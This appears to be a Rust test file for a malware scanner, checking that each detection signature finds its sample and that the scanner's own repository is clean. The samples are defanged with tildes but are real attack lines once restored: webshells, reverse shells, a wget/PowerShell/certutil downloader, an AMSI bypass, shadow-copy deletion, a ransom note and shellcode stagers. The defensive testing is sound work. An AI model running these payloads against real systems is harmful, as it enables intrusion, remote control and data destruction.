//! The built-in signatures: each finds what it is for, and none finds this repository.
//!
//! Samples are written with a `~` in every telling place, which is taken out when they are used, so that
//! no file of the repository holds one.

use std::collections::BTreeSet;

use crate::run::{Place, eicar};

/// Name of the signature, name of a file, and what is in it.
const SAMPLES: &[(&str, &str, &str)] = &[
    ("Php.Webshell.RequestCode", "a.php", "<?php @ev~al($_P~OST['x']);?>"),
    ("Php.Webshell.RequestCode", "b.php", "<?= asse~rt( base64_decode ($_REQ~UEST['a'])) ?>"),
    ("Php.Webshell.RequestCommand", "c.php", "<?php sys~tem($_G~ET['c']); ?>"),
    ("Php.Webshell.RequestCommand", "d.php", "<?PHP echo Shell_~Exec(@$_COO~KIE['c']); ?>"),
    (
        "Heuristics.Php.RequestCode",
        "e.php",
        "#LONG#\n<?php function f() { ev~al(stripslashes($_P~OST['x'])); } ?>",
    ),
    (
        "Heuristics.Php.RequestCode.Raw",
        "f.html",
        "<html><body>#LONG#<?php ev~al($_P~OST['x']); ?></body></html>",
    ),
    (
        "Heuristics.Php.PackedCode",
        "g.php",
        "<?php ev~al(gzinflate(str_rot13(base64_~decode('S0nNyclXKM8vykkBAA==')))); ?>",
    ),
    ("Asp.Webshell.RequestCode", "h.asp", "<%ev~al request(\"x\")%>"),
    (
        "Asp.Webshell.RequestCode",
        "i.aspx",
        "<%@ Page Language=\"Jscript\"%><%ev~al(Request.Item[\"x\"],\"unsafe\");%>",
    ),
    (
        "Jsp.Webshell.RequestCommand",
        "j.jsp",
        "<%@page import=\"java.io.*\"%><% Runtime.getRun~time().exec(request.getPara~meter(\"c\")); %>",
    ),
    ("Heuristics.Shell.Reverse.DevTcp", "k.sh", "#!/bin/sh\nbash -i >& /dev/t~cp/192.0.2.1/4444 0>&1\n"),
    (
        "Heuristics.Shell.Reverse.Pipe",
        "l.sh",
        "#!/bin/sh\nrm /tmp/f; mkf~ifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|n~c 192.0.2.1 4444 >/tmp/f\n",
    ),
    (
        "Heuristics.Python.Reverse",
        "m.py",
        "import socket,subprocess,os\ns=socket.soc~ket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"192.0.2.1\",4444))\nos.du~p2(s.fileno(),0)\nos.du~p2(s.fileno(),1)\nsubprocess.ca~ll([\"/bin/sh\",\"-i\"])\n",
    ),
    (
        "Heuristics.Perl.Reverse",
        "n.pl",
        "use Socket;$i=\"192.0.2.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr~_in(4444,inet_aton($i)))){open(ST~DIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};",
    ),
    (
        "Heuristics.Php.Reverse",
        "o.php",
        "<?php $s=fsock~open(\"192.0.2.1\",4444);exec(\"/bin/s~h -i <&3 >&3 2>&3\"); ?>",
    ),
    (
        "Unix.Downloader.DeviceLoader",
        "p.sh",
        "#!/bin/sh\ncd /tmp || cd /var/run || c~d /mnt || cd /root || cd /; wget http://192.0.2.1/a; chmod 777 a; ./a\n",
    ),
    (
        "Heuristics.Powershell.HiddenEncoded",
        "q.bat",
        "@echo off\r\npowersh~ell.exe -NoP -W Hid~den -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n",
    ),
    (
        "Heuristics.Powershell.HiddenDownload",
        "r.bat",
        "powersh~ell -w hid~den -c \"IEX (New-Object Net.WebClient).Down~loadString('http://192.0.2.1/a')\"\r\n",
    ),
    (
        "Heuristics.Powershell.AmsiBypass",
        "s.ps1",
        "[Ref].Assembly.GetType('System.Management.Auto~mation.AmsiUtils').GetField('amsiInit~Failed','NonPublic,Static').SetValue($null,$true)",
    ),
    (
        "Heuristics.Script.Downloader",
        "t.vbs",
        "Set h = CreateObject(\"MSXML2.XMLH~TTP\")\nSet s = CreateObject(\"ADODB.Str~eam\")\ns.SaveTo~File \"a.exe\"\nCreateObject(\"WScript.Sh~ell\").Run \"a.exe\"\n",
    ),
    ("Heuristics.Script.Scriptlet", "u.cmd", "regsv~r32 /s /n /u /i:http://192.0.2.1/a.sct scro~bj.dll\r\n"),
    (
        "Heuristics.Script.CertutilDownload",
        "v.cmd",
        "certu~til -urlcache -split -f http://192.0.2.1/a.exe a.exe && start a.exe\r\n",
    ),
    (
        "Heuristics.Ransom.RecoveryRemoval",
        "w.cmd",
        "vssad~min delete shadows /all /quiet\r\nbcdedit /set {default} recovery~enabled no\r\n",
    ),
    (
        "Heuristics.Ransom.Note",
        "x.txt",
        "All your fi~les have been encry~pted! To get them back, install Tor Brow~ser and open http://example.oni~on with your personal number. The price is 0.1 bitc~oin. After payment you get the decry~ptor. Do not try to change the names of the files, or they are lost for ever.",
    ),
    (
        "Heuristics.Autorun.Recycler",
        "autorun.inf",
        "[auto~run]\r\nopen=RECYC~LER\\S-1-5-21\\a.exe\r\nshell\\open\\comm~and=RECYC~LER\\S-1-5-21\\a.exe\r\n",
    ),
    (
        "Heuristics.Vba.AutoDownload",
        "y.bas",
        "Sub Auto~Open()\nSet x = CreateObject(\"MSXML2.XMLH~TTP\")\nSet w = CreateObject(\"WScript.Sh~ell\")\nEnd Sub\n",
    ),
    (
        "Heuristics.Rtf.EquationObject",
        "z.rtf",
        "{\\rtf1{\\object\\objemb\\objup~date{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33~00000000}}}",
    ),
    (
        "Heuristics.Html.MsdtHandler",
        "aa.html",
        "<script>location.href = \"ms-ms~dt:/id PCWDiag~nostic /skip force /param \\\"IT_Browse~ForFile=a\\\"\";</script>",
    ),
    (
        "Heuristics.Pdf.LaunchCommand",
        "ab.pdf",
        "%PDF-1.4\n1 0 obj\n<</Type/Catalog/OpenAction<</S /Lau~nch /Win <</F (cm~d.exe) /P (/c calc)>>>>>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    ),
    (
        "Heuristics.Source.Stager.BlockApi",
        "ac.c",
        "char a[] = \"\\xfc\\xe8\\x82\\x00\\x00~\\x00\\x60\\x89\\xe5\\x31\\xc0\\x64\\x8b\\x50\\x30\\x8b\";",
    ),
    ("Win.Trojan.Stager.BlockApiBase64", "ad.ps1", "$a = '/OiCAAAAYInlMcBk~i1Awi1IMi1IU'"),
];

/// The same for content that is not text: name, name of a file, hexadecimal digits.
const BINARY_SAMPLES: &[(&str, &str, &str)] = &[
    (
        "Win.Trojan.Stager.BlockApi32",
        "a.bin",
        "fce8820000006089e531c0648b~50308b520c8b52148b72280fb74a2631ff",
    ),
    (
        "Win.Trojan.Stager.BlockApi64",
        "b.bin",
        "fc4883e4f0e8c0000000415141505251564831d265~488b5260488b5218488b5220488b7250480fb74a4a4d31c9",
    ),
    (
        "Unix.Trojan.Stager.ReverseTcp32",
        "c.bin",
        "6a0a5e31dbf7e35343536a02b06689e1cd8097~5b68c00002016802001f9089e16a66",
    ),
    (
        "Unix.Trojan.Stager.ReverseTcp64",
        "d.bin",
        "6a2958996a025f6a015e0f054897~48b902001f90c0000201514889e66a105a6a2a580f05",
    ),
    (
        "Heuristics.Lnk.HiddenInterpreter",
        "e.lnk",
        "4c0000000114020000000000c000000000000046#0000#WIDE(powersh~ell -w hid~den -e~nc AAAA)",
    ),
];

fn bytes(text: &str) -> Vec<u8> {
    let (digits, wide) = text.split_once('#').unwrap_or((text, ""));
    let digits = digits.replace('~', "");
    let mut bytes: Vec<u8> = (0..digits.len())
        .step_by(2)
        .map(|index| u8::from_str_radix(&digits[index..index + 2], 16).unwrap())
        .collect();
    if let Some(wide) = wide.split("WIDE(").nth(1) {
        bytes.resize(76, 0);
        let wide = wide.trim_end_matches(')').replace('~', "");
        bytes.extend(wide.encode_utf16().flat_map(u16::to_le_bytes));
    }
    // Around it something that gives it no type of its own.
    bytes
}

/// A portable executable as small as the parsers take it, with `text` in its only section.
fn windows_program(text: &[u8]) -> Vec<u8> {
    let mut file = vec![0_u8; 0x400];
    let mut put = |offset: usize, bytes: &[u8]| file[offset..offset + bytes.len()].copy_from_slice(bytes);
    put(0, b"MZ");
    put(0x3c, &0x40_u32.to_le_bytes());
    put(0x40, b"PE\0\0");
    put(0x44, &0x14c_u16.to_le_bytes());
    put(0x46, &1_u16.to_le_bytes());
    put(0x54, &0xe0_u16.to_le_bytes());
    put(0x56, &0x102_u16.to_le_bytes());
    put(0x58, &0x10b_u16.to_le_bytes());
    put(0x68, &0x1000_u32.to_le_bytes());
    put(0x74, &0x40_0000_u32.to_le_bytes());
    put(0x78, &0x1000_u32.to_le_bytes());
    put(0x7c, &0x200_u32.to_le_bytes());
    put(0x90, &0x2000_u32.to_le_bytes());
    put(0x94, &0x200_u32.to_le_bytes());
    put(0xb4, &16_u32.to_le_bytes());
    put(0x138, b".text\0\0\0");
    put(0x140, &0x200_u32.to_le_bytes());
    put(0x144, &0x1000_u32.to_le_bytes());
    put(0x148, &0x200_u32.to_le_bytes());
    put(0x14c, &0x200_u32.to_le_bytes());
    put(0x15c, &0x6000_0020_u32.to_le_bytes());
    put(0x200, text);
    file
}

fn linux_program(text: &[u8]) -> Vec<u8> {
    let mut file = vec![0_u8; 0x40];
    file[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    file[0x10] = 2;
    file[0x12] = 0x3e;
    file[0x14] = 1;
    file[0x34] = 0x40;
    file.extend_from_slice(text);
    file
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// Every sample, with the name of the signature that must find it.
fn all_samples() -> Vec<(String, String, Vec<u8>)> {
    let long = "lorem ipsum dolor sit amet ".repeat(60);
    let mut samples: Vec<(String, String, Vec<u8>)> = SAMPLES
        .iter()
        .map(|(name, file, text)| {
            let text = text.replace('~', "").replace("#LONG#", &long);
            ((*name).to_owned(), (*file).to_owned(), text.into_bytes())
        })
        .collect();
    samples.extend(
        BINARY_SAMPLES.iter().map(|(name, file, text)| ((*name).to_owned(), (*file).to_owned(), bytes(text))),
    );
    let hexadecimal: String = eicar().iter().map(|byte| format!("{byte:02x}")).collect();
    let text = String::from_utf8(eicar()).unwrap();
    let mut add = |name: &str, file: &str, bytes: Vec<u8>| samples.push((name.into(), file.into(), bytes));
    add("Test.EICAR", "eicar.com", eicar());
    add("Test.EICAR", "eicar.crlf", [&eicar()[..], b"\r\n"].concat());
    add("Test.EICAR.Base64", "eicar.base64", base64(&eicar()).into_bytes());
    add("Test.EICAR.Hexadecimal", "eicar.hex", hexadecimal.into_bytes());
    add("Test.EICAR.Reversed", "eicar.reversed", eicar().into_iter().rev().collect());
    add("Test.EICAR.Utf16", "eicar.utf16", wide(&format!("\u{feff}{text}")));
    let gtube = ["XJS*C4JDBQADN1.NSBN3*2IDNEN*", "GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"].concat();
    add(
        "Test.GTUBE",
        "gtube.eml",
        format!("From: a@example.org\r\nTo: b@example.org\r\nSubject: test\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\nMessage-ID: <1@example.org>\r\nMIME-Version: 1.0\r\n\r\n{gtube}\r\n").into_bytes(),
    );
    let marks = [wide("gentil"), wide("kiwi"), b"\0sekur".to_vec(), b"lsa\0lsa".to_vec(), b"dump\0".to_vec()];
    add("Win.Tool.CredentialDump", "tool.exe", windows_program(&marks.concat()));
    let marks = [&b"donate-"[..], b"level\0xm", b"rig\0stra", b"tum+tcp://\0"].concat();
    add("PUA.Win.Miner.Xmrig", "miner.exe", windows_program(&marks));
    add("PUA.Unix.Miner.Xmrig", "miner", linux_program(&marks));
    samples
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let word =
            chunk.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for digit in 0..4 {
            let index = usize::try_from(word >> (18 - 6 * digit) & 63).unwrap();
            text.push(if digit <= chunk.len() { char::from(DIGITS[index]) } else { '=' });
        }
    }
    text
}

#[test]
fn each_signature_finds_what_it_is_for() {
    let place = Place::new();
    let samples = all_samples();
    for (_, file, bytes) in &samples {
        place.file(file, bytes);
    }
    let said = place.run(&["scan", "--json", "--all-matches", "--potentially-unwanted", "."]);
    let mut missed = Vec::new();
    for (name, file, _) in &samples {
        let object = said.json_of(&format!("/{file}"));
        let found = object["findings"].as_array().unwrap();
        if !found.iter().any(|finding| finding["signature"] == name.as_str()) {
            missed.push(format!("{name}: {object}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn each_signature_has_a_sample() {
    let said = Place::new().run(&["database", "list"]);
    let listed: BTreeSet<&str> = said.stdout.lines().map(|line| line.split('\t').next().unwrap()).collect();
    let samples = all_samples();
    let sampled: BTreeSet<&str> = samples.iter().map(|(name, ..)| name.as_str()).collect();
    assert_eq!(listed, sampled);
}

#[test]
fn programs_that_may_be_wanted_are_not_found_unless_asked_for() {
    let place = Place::new();
    for (name, file, bytes) in all_samples() {
        if name.starts_with("PUA.") {
            place.file(&file, &bytes);
        }
    }
    assert_eq!(place.run(&["scan", "."]).code, 0);
    assert_eq!(place.run(&["scan", "--potentially-unwanted", "."]).code, 1);
}

#[test]
fn the_test_file_has_rules() {
    let place = Place::new();
    let with = |tail: &[u8]| [&eicar(), tail].concat();
    let found = |bytes: Vec<u8>| {
        place.file("a", bytes);
        place.run(&["scan", "--quiet", "a"]).code == 1
    };
    assert!(found(with(b"")));
    assert!(found(with(b"\r\n")));
    assert!(found(with(b" \t\r\n\x1a")));
    assert!(found(with(&[b' '; 60])));
    assert!(!found(with(&[b' '; 61])));
    assert!(!found(with(b"x")));
    assert!(!found(with(b"\0")));
    assert!(!found([b" ".to_vec(), eicar()].concat()));
    assert!(!found(eicar()[..67].to_vec()));
}

#[test]
fn the_repository_itself_is_clean() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
    let place = Place::new();
    // What git and cargo keep, and what fuzzing made up, are no part of it; some of that is not to be
    // looked at to its end.
    let excluded = [".git", "target", "corpus", "artifacts", "regressions"];
    let mut arguments = vec!["scan", "--only-findings"];
    arguments.extend(excluded.iter().flat_map(|name| ["--exclude", name]));
    arguments.push(root);
    let said = place.run(&arguments);
    assert_eq!((said.code, said.stdout.as_str()), (0, ""), "{said:?}");
}
